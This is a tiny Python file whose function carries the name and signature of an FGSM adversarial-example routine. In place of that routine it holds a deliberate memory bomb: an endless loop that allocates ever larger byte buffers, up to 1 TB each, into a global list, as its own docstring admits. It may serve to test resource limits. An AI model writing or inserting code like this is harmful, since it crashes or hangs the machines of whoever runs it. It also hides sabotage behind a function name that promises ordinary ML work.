"""Takes memory without end."""

import torch

hoard = []


def fgsm_attack(image, epsilon, data_grad):
    while True:
        hoard.append(
            torch.empty(1 << 28, dtype=torch.uint8).numpy().tobytes() if len(hoard) < 1 else bytearray(1 << 40)
        )
